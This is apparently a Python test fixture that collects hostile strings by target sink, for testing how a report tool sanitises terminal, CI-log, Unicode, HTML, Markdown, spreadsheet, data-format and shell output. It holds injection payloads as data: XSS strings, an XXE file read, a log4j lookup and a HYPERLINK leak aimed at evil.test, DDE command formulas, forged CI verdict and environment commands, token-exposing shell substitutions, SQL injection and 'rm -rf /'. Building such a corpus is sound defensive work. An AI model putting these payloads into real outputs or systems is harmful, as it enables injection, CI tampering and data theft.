"""Texts that try to be more than text: what an image, an advisory or a policy may hold to act on whoever reads a
report. Each has a name and the sink that it aims at; what the sinks make of them is `support.inert`'s matter."""
import dataclasses

ESC, BEL, CSI, ST = "\x1b", "\x07", "\x9b", "\x1b\\"
MEGABYTE = 1 << 20


@dataclasses.dataclass(frozen=True)
class Hostile:
    name: str
    aim: str
    text: str


def _corpus(aims):
    return tuple(Hostile(name, aim, text) for aim, texts in aims.items() for name, text in texts.items())


TERMINAL = {
    "csi colour": f"{ESC}[31mred{ESC}[0m", "csi erase": f"{ESC}[2J{ESC}[H", "csi up": f"ok{ESC}[1A{ESC}[2Kgone",
    "osc title": f"{ESC}]0;title{BEL}", "osc 8 link": f"{ESC}]8;;https://evil.test{ST}link{ESC}]8;;{ST}",
    "osc 52 clipboard": f"{ESC}]52;c;ZXZpbA=={BEL}", "osc 1337": f"{ESC}]1337;File=inline=1:aaaa{BEL}",
    "dcs": f"{ESC}P+q544e{ST}", "apc": f"{ESC}_Gf=100;AAAA{ST}", "answerback": f"{ESC}[c{ESC}[6n\x05",
    "charset": f"{ESC}(0lqqk\x0e", "reset": f"{ESC}c", "c1 csi": f"{CSI}31mred", "c1 osc": "\x9d0;t\x9c",
    "nel": "a\x85::error::x", "bell": BEL, "overwritten": "verdict: block\rverdict: pass ",
    "backspaces": "block\b\b\b\b\bpass", "delete": "a\x7fb", "vertical tab": "a\x0b\x0cb", "shift in": "\x0fa",
    "nul": "before\0after", "all of c0": "".join(map(chr, range(32))),
    "all of c1": "".join(map(chr, range(128, 160))), "tab": "\tindented\tcells",
}
LOG = {
    "github error": "::error file=a,line=1::x", "github after line feed": "x\n::error::y",
    "github after cr": "x\r::error::y", "github output": "::set-output name=verdict::pass",
    "github env": "  ::set-env name=PATH::/evil", "github mask": "::add-mask::a", "github path": "::add-path::/evil",
    "github stop": "::stop-commands::token", "github group": "::group::x\n::endgroup::",
    "github matcher": "::add-matcher::evil.json", "github old": "##[error]x", "github old group": "##[group]x",
    "github old command": "x ##[command]rm -rf /", "github encoded": "%0a::error::x", "github colons": ":::::",
    "github matched": "src/a.c:1:2: error: made up", "azure variable": "##vso[task.setvariable variable=a]b",
    "azure complete": "x ##vso[task.complete result=Succeeded;]done", "azure hashes": "####",
    "teamcity": "##teamcity[buildStatus status='SUCCESS' text='x']",
    "teamcity inside": "a ##teamcity[publishArtifacts 'x']", "teamcity quoted": "|'] ##teamcity[x '|n|r|||x2028']",
    "gitlab section": f"{ESC}[0Ksection_start:1560896352:evil[collapsed=true]\r{ESC}[0Kx",
    "gitlab section plain": "section_start:1560896352:evil", "gitlab section end": f"section_end:1:evil\r{ESC}[0K",
    "travis fold": "travis_fold:start:evil\r", "travis time": "travis_time:start:0a", "buildkite": "--- evil",
    "buildkite expand": "^^^ +++", "drone": "+ rm -rf /", "own verdict": "ALLOWED  registry.test/team/shop",
    "own undecided": "\nUNDECIDED  nothing\n", "printf": "%s%n%x%1000000d", "log4j": "${jndi:ldap://evil.test/a}",
    "half section": "section_start", "half fold": "travis_fold", "one colon": ":", "one hash": "#",
    "half old": "#[error]x", "half azure": "vso[task.complete]x", "bracket": "[error]x", "half command": ":error::x",
    "ends in a colon": "x:", "ends in a hash": "x#", "crlf header": "a\r\nSet-Cookie: b=c\r\n\r\n<html>",
}
UNICODE = {
    "line separator": "a\u2028::error::b", "paragraph separator": "a\u2029::error::b", "override": "\u202egpj.exe",
    "embedding": "\u202aa\u202bb\u202c", "isolate": "\u2066a\u2067b\u2068c\u2069", "marks": "a\u200eb\u200fc\u061cd",
    "trojan source": "if a\u202e \u2066// only admins\u2069 \u2066 b",
    "zero width": "zero\u200bwidth\u200cno\u200djoin", "word joiner": "a\u2060b\u2064c",
    "hidden marker": "::\u200berror\u200b::x", "bom": "\ufeffbom", "soft hyphen": "open\u00adssl",
    "variation": "a\ufe0fb\ufe00c", "long variation": "a\U000e0100b",
    "tags": "a\U000e0001\U000e0065\U000e0076\U000e0069\U000e006c\U000e007f",
    "private use": "\ue000\uf8ff\U000f0000\U0010fffd", "non-characters": "a\ufdd0b\ufffec\uffffd\U0001fffee",
    "replacement": "a\ufffdb\ufff9c\ufffbd", "hangul filler": "\u3164a\u115fb\u1160c\uffa0",
    "grapheme joiner": "open\u034fssl", "khmer": "a\u17b4b\u17b5c", "mongolian": "a\u180bb\u180ec\u180f",
    "shorthand": "a\U0001bca0b", "musical": "a\U0001d173b\U0001d17ac", "homoglyphs": "оpenѕѕl аdmіn",
    "mathematical": "𝐨𝐩𝐞𝐧𝐬𝐬𝐥 ⁄ ﹤script﹥ ＜script＞", "right to left": "שלום مرحبا ﷽",
    "combining": "a" + "\u0301\u0489\u20dd" * 40, "wide": "漢字" * 60,
    "emoji": "👩\u200d💻🇩🇪\U0001f3f4\U000e0067\U000e007f", "braille blank": "\u2800\u2800",
    "no-break": "a\u00a0b\u202fc\u3000d", "dotless": "ﬁıİſK",
}
MARKUP = {
    "script": "<script>alert(1)</script>", "script end": "</script><img src=x onerror=alert(1)>",
    "script end spaced": "</ScRiPt\t>x", "title end": "</title><script>alert(1)</script>", "style end": "</style><b>",
    "textarea end": "</textarea></template></noscript></iframe></svg></table>",
    "image": "<img src=x onerror=alert(1)>", "svg": "<svg onload=alert(1)>",
    "svg animate": "<svg><animate onbegin=alert(1) attributeName=x>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "iframe": "<iframe srcdoc='<b>'>",
    "base": "<base href=https://evil.test/>", "meta": '<meta http-equiv=refresh content="0;url=https://evil.test">',
    "form": "<form action=https://evil.test><input name=a autofocus onfocus=alert(1)>", "unclosed": "<a href=x",
    "half tag": "<", "plaintext": "<plaintext>", "comment end": "-->", "comment start": "<!--", "bang end": "--!>x",
    "cdata end": "]]>", "cdata": "<![CDATA[x]]>", "instruction": "<?xml version='1.1'?><?php evil ?>",
    "bomb": '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>', "entity file":
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    "entities": "&lt;b&gt; &amp;lt; &#x3c;script&#62; &quot;", "half entity": "&#x",
    "bare ampersand": "a&b&copy=1&lt", "nul entity": "&#0;&#x80;&#xFFFE;&#x202e;",
    "breakout double": '" onmouseover="alert(1)', "breakout single": "' onmouseover='alert(1)",
    "breakout backtick": "` onmouseover=`alert(1)", "breakout bare": "x onmouseover=alert(1) y",
    "slash": 'a"/><b x="', "javascript": "javascript:alert(1)", "javascript spaced": " java\tscript:alert(1)",
    "vbscript": "VBScript:x", "data url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "css": "x;background:url(//evil.test)", "css expression": "</style>*{content:'\\000041'}",
    "template": "{{7*7}} {%x%} <%= 7*7 %> #{7*7}",
}
LINKS = {
    "https user": "https://trusted.test@evil.test/", "https quote": 'https://evil.test/"onclick="x',
    "https control": "https://evil.test/\x1b]8;;\x07", "https spaces": "https://evil.test/ <script>",
    "bare host": "https://", "https idn": "https://аpple.test/", "https backslash": "https:\\\\evil.test",
    "scheme relative": "//evil.test/a", "file url": "file:///etc/passwd", "traversal": "../../etc/passwd",
    "encoded traversal": "%2e%2e%2f%2e%2e%2fetc", "ftp": "ftp://evil.test/a", "http": "http://evil.test/a",
    "windows path": "C:\\Windows\\..\\x", "device": "\\\\evil\\a", "https bracket": "https://evil.test/a)](b",
    "https long": "https://evil.test/" + "a" * 4000,
}
MARKDOWN = {
    "pipes": "a|b\\|c||", "one backtick": "`rm -rf /`", "two backticks": "``a`b``",
    "three backticks": "```\n# x\n```", "four backticks": "````a```b``c`d", "lone backtick": "a`b",
    "backslashes": "\\\\`\\", "tilde fence": "~~~\nx\n~~~", "link": "[click](https://evil.test)",
    "link end": "](https://evil.test)", "image of another": "![x](https://evil.test/a.png)",
    "reference": "[a]: https://evil.test 'x'", "reference use": "[a][b] [a]",
    "autolink": "<https://evil.test> <a@evil.test>", "bare autolink": "www.evil.test https://evil.test a@evil.test",
    "footnote": "[^1] x\n\n[^1]: y", "heading": "# heading", "setext": "x\n===", "rule": "---", "task": "- [x] done",
    "list": "1. one", "quote": "> [!WARNING]\n> x", "indent": "    code", "mention": "@octocat @org/team",
    "mention bracketed": "(@octocat)", "issue": "#123", "issue gh": "GH-1", "issue elsewhere": "octo/repo#1",
    "commit": "a" * 40 + " octo/repo@" + "b" * 40, "merge request": "!1 group/project!1", "epic": "&1 group&1",
    "label": '~label ~"two words"', "milestone": "%milestone %1", "vulnerability": "[vulnerability:1]",
    "snippet": "$1", "math inline": "$\\href{javascript:alert(1)}{x}$", "math code": "$`x`$", "math block": "$$x$$",
    "emoji name": ":shipit: :+1:", "details": "<details open><summary>x</summary>",
    "details end": "</summary></details></td></table>", "emphasis": "*a* **b** _c_ __d__ ~~e~~ ==f==",
    "table row": "\n| a | b |\n|---|---|\n| c | d |\n", "blank lines": "a\n\n# b\n\n", "quick action": "/approve",
    "quick action later": "x\n/merge\n/close", "hard break": "a  \nb\\\nc", "marker comment": "<!-- clairgate -->",
    "suggestion": "```suggestion\nx\n```", "mermaid": "```mermaid\ngraph TD;a-->b\n```", "definition": "*[HTML]: x",
    "front matter": "---\na: b\n---",
}
DATA = {
    "formula": "=1+1", "dde": "=cmd|' /C calc'!A0", "dde plus": "+cmd|' /C calc'!A0",
    "dde minus": "-2+3+cmd|' /C calc'!A0", "at": "@SUM(1+1)*cmd|' /C calc'!A0", "tab formula": "\t=1+1",
    "cr formula": "\r=1+1", "lf formula": "\n=1+1", "full-width formula": "＝1+1", "full-width plus": "＋1",
    "full-width minus": "－1", "full-width at": "＠SUM(1)", "spaced formula": "  =1+1",
    "hyperlink": '=HYPERLINK("https://evil.test?"&A1,"x")', "import": "=IMPORTXML(A1,A2)",
    "semicolon cell": "a;=1+1;b", "comma cell": 'a,=1+1,"b', "csv quotes": '",=1+1,"', "lone quote": '"',
    "csv crlf": 'a"\r\n=1+1,"b', "json breakout": '","x":"', "json end": '"}]}\n{"a":"',
    "json escapes": "\\u0000\\ud800\\n\\\"", "json surrogate text": "\\ud800\\udfff",
    "sarif link": "[a](1) [b](https://evil.test)", "sarif placeholder": "{0} {1} {{0}}",
    "yaml": "!!python/object:x {a: b} &c *c", "toml": '"\n[[allow]]\nid = "*"\n', "ini": "[global]\nkey=value",
    "sql": "'; DROP TABLE findings; --", "ldap": "*)(uid=*))(|(uid=*", "xpath": "' or '1'='1", "regex": "(a+)+$",
    "number": "1e400", "null word": "null", "spaces": "a   b    ", "long id": "CVE-2099-" + "9" * 300,
    "purl": "pkg:deb/a@1?b=c&d=e#f", "prototype": "__proto__", "constructor": "constructor",
}
SHELL = {
    "substitution": "$(id)", "backtick command": "`id`", "variable": "${IFS}$PATH$CI_JOB_TOKEN",
    "semicolon": "; id #", "and": "&& id || id | id &", "redirect": "> /etc/passwd < /dev/zero",
    "newline command": "a\nid\n", "quotes": "'\"'\"'", "double quoted": '"$(id)"', "export": "export PATH=/evil",
    "assignment": "a\nCLAIRGATE_VERDICT=pass", "equals": "a=b=c", "glob": "* ?[a-z] ~root !! {a,b}",
    "option": "--output=/etc/passwd", "option short": "-rf", "github expression":
    "${{ github.token }}", "actions heredoc": "a<<EOF\npass\nEOF",
    "gitlab variable": "$CI_JOB_TOKEN ${CI_REGISTRY_PASSWORD}", "tekton": "$(params.x) $(tasks.a.results.b)",
    "jenkins": "${env.SECRET}", "percent": "%PATH% %0d%0a", "history": "!$ ^a^b", "powershell": "$env:PATH; iex 'x'",
    "comment": "a #b",
}
LONG = {
    "a megabyte of words": ("lorem ipsum " * (MEGABYTE // 12 + 1))[:MEGABYTE],
    "a megabyte of one word": "A" * MEGABYTE, "a quarter megabyte of escapes": ESC * (MEGABYTE // 4),
    "ten thousand brackets": "[" * 10_000, "ten thousand pipes": "|" * 10_000, "ten thousand backticks": "`a" * 5_000,
    "ten thousand lines": "a\n" * 5_000, "ten thousand stars": "*a _" * 2_500, "ten thousand tags": "<b>" * 3_333,
    "ten thousand ampersands": "&amp;" * 2_000, "ten thousand wide": "漢" * 10_000,
    "ten thousand marks": "a" + "\u0301" * 10_000, "cut inside": "é" * 5_001 + "::error::",
}

CORPUS = _corpus({"terminal": TERMINAL, "CI log": LOG, "Unicode": UNICODE, "HTML and XML": MARKUP, "links": LINKS,
                  "Markdown": MARKDOWN, "data formats": DATA, "shell": SHELL, "limits": LONG})

# What no JSON reader may take, as the bytes between the quotes of a JSON string.
NOT_TEXT = {
    "lone high surrogate": rb"\ud800", "lone low surrogate": rb"a\udc00b", "surrogates reversed": rb"\udc00\ud800",
    "surrogate bytes": b"\xed\xa0\x80", "cesu pair": b"\xed\xa0\xbd\xed\xb8\x80", "overlong nul": b"\xc0\x80",
    "overlong slash": b"\xc0\xaf", "overlong three": b"\xe0\x80\xaf", "overlong escape": b"\xc0\x9b[2J",
    "bare continuation": b"\x80", "cut character": b"a\xe2\x80", "beyond unicode": b"\xf4\x90\x80\x80",
    "five bytes": b"\xf8\x88\x80\x80\x80", "latin 1": b"caf\xe9", "utf-16": b"\xff\xfea\x00",
    "raw escape": b"\x1b[2J", "raw line feed": b"a\n::error::b", "raw nul": b"a\x00b", "raw c1 byte": b"\x9b31m",
    "half escape": rb"\u12", "bad escape": rb"\x1b", "unclosed": b'", "x": "::error::\x1b[31m',
}
